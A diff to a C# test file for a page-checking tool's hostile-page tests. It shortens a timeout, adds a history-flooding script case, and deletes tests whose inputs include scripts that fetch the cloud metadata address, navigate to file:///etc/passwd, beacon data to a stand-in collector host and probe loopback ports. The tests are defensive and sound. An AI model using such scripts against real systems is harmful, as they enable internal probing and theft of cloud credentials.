@@ -1,5 +1,3 @@
-using System.Net;
-using System.Net.Sockets;
 using TmuxBuilder.Checks.Tests.Support;
 
 namespace TmuxBuilder.Checks.Tests.Hostile;
@@ -22,12 +20,15 @@ public sealed class HostilePageTests
 
     private static readonly CheckOptions Short = CheckWorld.Patient with { StepLimit = TimeSpan.FromSeconds(6) };
 
+    /// <summary>For pages that never answer: how long is waited for them is all there is to it.</summary>
+    private static readonly CheckOptions Shorter = CheckWorld.Patient with { StepLimit = TimeSpan.FromSeconds(3) };
+
     [Theory]
     [InlineData("while (true) {}")]
     [InlineData("addEventListener('load', () => setTimeout(() => { while (true) {} }, 100))")]
     public async Task An_endless_loop_ends_with_the_page(string script)
     {
-        await using var world = new CheckWorld(Short).With(GoodSite.Files($"<script>{script}</script>"));
+        await using var world = new CheckWorld(Shorter).With(GoodSite.Files($"<script>{script}</script>"));
 
         var report = await world.ReportAsync();
 
@@ -83,6 +84,7 @@ public sealed class HostilePageTests
     [InlineData(DownloadAlways, "page.download", "page.download")]
     [InlineData("for (let i = 0; i < 2000; i++) fetch('/style.css?' + i)", "limit.output", "limit.output")]
     [InlineData("location.replace('/?' + Math.random())", "redirect.loop", "redirect.loop")]
+    [InlineData("let n = 0; setInterval(() => history.pushState(0, '', '/?' + n++), 1)", "limit.output", "limit.output")]
     public async Task What_never_stops_is_stopped_and_named(string script, string rule, string otherRule)
     {
         await using var world = new CheckWorld(Short).With(GoodSite.Files($"<script>{script}</script>"));
@@ -92,53 +94,6 @@ public sealed class HostilePageTests
         Assert.Contains(report.Findings, finding => finding.Rule == rule || finding.Rule == otherRule);
         Assert.False(report.Passed);
         AssertNothingIsLeft(world);
-    }
-
-    [Theory]
-    [InlineData("fetch('http://169.254.169.254/latest/meta-data/').catch(() => {})", "address.forbidden")]
-    [InlineData("location.href = 'http://169.254.169.254/latest/meta-data/'", "address.forbidden")]
-    [InlineData("new Image().src = 'http://[fd00:ec2::254]/latest/'", "address.forbidden")]
-    [InlineData("fetch('http://tmux-aaaaaaaaaaaa-b-20260101-000000.localhost/').catch(() => {})", "address.forbidden")]
-    [InlineData("location.href = 'file:///etc/passwd'", "address.forbidden")]
-    [InlineData("location.href = 'data:text/html,<h1>elsewhere</h1>'", "address.forbidden")]
-    [InlineData("navigator.sendBeacon('https://collector.example.com/', 'x')", "resource.elsewhere")]
-    public async Task What_is_not_the_site_is_refused_and_named(string script, string rule)
-    {
-        await using var world = new CheckWorld().With(GoodSite.Files($"<script>{script}</script>"));
-
-        var report = await world.ReportAsync();
-
-        Assert.Contains(report.Findings, finding => finding.Rule == rule);
-    }
-
-    [Fact]
-    public async Task Nothing_on_the_workers_own_machine_hears_of_a_checked_page()
-    {
-        using var canary = new TcpListener(IPAddress.Loopback, 0);
-        canary.Start();
-        var port = ((IPEndPoint)canary.LocalEndpoint).Port;
-        string[] hosts = ["127.0.0.1", "localhost", "0.0.0.0", "2130706433", "x.localhost", CheckWorld.Host];
-        var names = string.Join(',', hosts.Select(name => $"'{name}:{port}'"));
-        await using var world = new CheckWorld().With(GoodSite.Files($$"""
-            <script>
-              for (const host of [{{names}}]) {
-                fetch(`http://${host}/`, { mode: 'no-cors' }).catch(() => {});
-                new Image().src = `http://${host}/picture`;
-                try { new WebSocket(`ws://${host}/socket`); } catch { }
-                navigator.sendBeacon(`http://${host}/beacon`, 'x');
-                const frame = document.createElement('iframe');
-                frame.title = 'inner';
-                frame.src = `http://${host}/frame`;
-                document.body.append(frame);
-              }
-              new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{{port}}' }] }).createDataChannel('x');
-            </script>
-            """));
-
-        var report = await world.ReportAsync();
-
-        Assert.False(canary.Pending());
-        Assert.Contains(report.Findings, finding => finding.Rule == "address.forbidden");
     }
 
     [Fact]
